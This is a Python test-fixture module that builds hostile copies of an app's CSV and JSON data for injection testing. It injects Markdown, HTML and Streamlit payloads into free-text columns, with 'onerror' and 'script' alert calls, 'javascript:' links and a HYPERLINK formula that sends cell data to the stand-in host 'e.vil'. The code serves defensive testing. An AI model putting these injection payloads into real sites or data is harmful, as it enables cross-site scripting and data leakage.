"""Hostile text for the tests: one payload per kind of Markdown, HTML and Streamlit syntax that could make a page
fetch, link, colour or format something, and a copy of data/ whose free-text columns all carry them."""

import json
import shutil
from pathlib import Path

import pandas as pd

from lib import datasets
from tests.datacopy import sign

# Every address in a payload is on this host, so a page or request that used one is easy to find.
HOSTILE_HOST = "e.vil"
PAYLOADS = {
    "image": "![x](http://e.vil/image.png)",
    "link": "[text](http://e.vil/link)",
    "autolink": "<http://e.vil/auto>",
    "bare address": "see http://e.vil/bare",
    "bare www": "www.e.vil/www",
    "e-mail": "x@e.vil.com",
    "colour": ":red[red] :blue-background[b]",
    "icon": ":material/home:",
    "emoji": ":smile:",
    "logo": ":streamlit:",
    "latex": "$x^2$ and $$y$$",
    "heading": "# Head",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "quote": "> quoted",
    "emphasis": "*em* _u_ **b** ~~s~~",
    "code": "`code`",
    "entity": "&amp; &lt;b&gt; &#58;",
    "html": '<img src="http://e.vil/html.png" onerror=alert(1)><script>alert(2)</script>',
    "list": "- item\n1. one",
    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h",
    "rule": "***",
    "reference": "[a]: http://e.vil/ref",
    "formula": '=HYPERLINK("http://e.vil/f"&A1,"x")',
}
# Columns that are codes, keys or numbers-as-text: the app looks them up, so a payload there is a broken file
# (which the schemas or the pages reject), not hostile text to show.
CODE_COLUMNS = {
    "fips",
    "state_fips",
    "county_fips",
    "all_county_fips",
    "state_abbr",
    "ori",
    "data_year",
    "model",
    "agency_type",
    "status",
    "indicator",
    "effect",
    "basis",
    "review_status",
    "value",
    "scope",
    "agreement_id",
    "facility_id",
    "fiscal_year",
    "contract_type",
    "jail_operator",
    "runs_county_jails",
    "listed_on",
    "list_date",
    "first_seen",
    "last_seen",
    "signed",
    "effective_date",
    "source_date",
    "as_of",
    "in_force",
    "has_shape",
    "kind",
    "method",
    "match_method",
    "detloc",
    "fbi_agency_type",
    "placed_by",
}


def free_text_columns(dataset: datasets.Dataset) -> list[str]:
    """Text columns with no declared format, which are not codes, keys, dates or links."""
    return [
        name
        for name, column in dataset.schema.columns.items()
        if str(column.dtype).startswith("str")
        and not column.checks
        and not column.unique
        and name not in CODE_COLUMNS
        and not name.endswith(("_fips", "_id", "_date", "url"))
    ]


ALL_PAYLOADS = "\n".join(PAYLOADS.values())


def with_payloads(value: str) -> str:
    """The value, then every payload, each on a line of its own (where headings, lists and tables start)."""
    return f"{value}\n{ALL_PAYLOADS}"


def hostile_copy(source: Path, target: Path) -> dict[str, list[str]]:
    """Copies data/ into `target` with every free-text column of every CSV file and every text of sources.json
    carrying the payloads; link columns get a `javascript:` link. Returns the columns changed, per file."""
    shutil.copytree(source, target, dirs_exist_ok=True)
    changed = {}
    for dataset in vars(datasets).values():
        if not isinstance(dataset, datasets.Dataset) or not dataset.file.endswith(".csv"):
            continue
        path = target / dataset.file
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        columns = free_text_columns(dataset)
        for name in columns:
            frame[name] = [with_payloads(value) if value else value for value in frame[name]]
        for name in [name for name in frame.columns if name.endswith("url")]:
            frame[name] = ["javascript:alert(document.domain)" if value else value for value in frame[name]]
        frame.to_csv(path, index=False, lineterminator="\n")
        changed[dataset.file] = columns
    sources = json.loads((target / "sources.json").read_text())
    for source in sources:
        for name in ("title", "publisher", "licence", "retrieved_via"):
            if isinstance(source.get(name), str):
                source[name] = with_payloads(source[name])
        source["url"] = "javascript:alert(document.domain)"
    (target / "sources.json").write_text(json.dumps(sources))
    changed["sources.json"] = ["title", "publisher", "licence", "retrieved_via"]
    sign(target)
    return changed
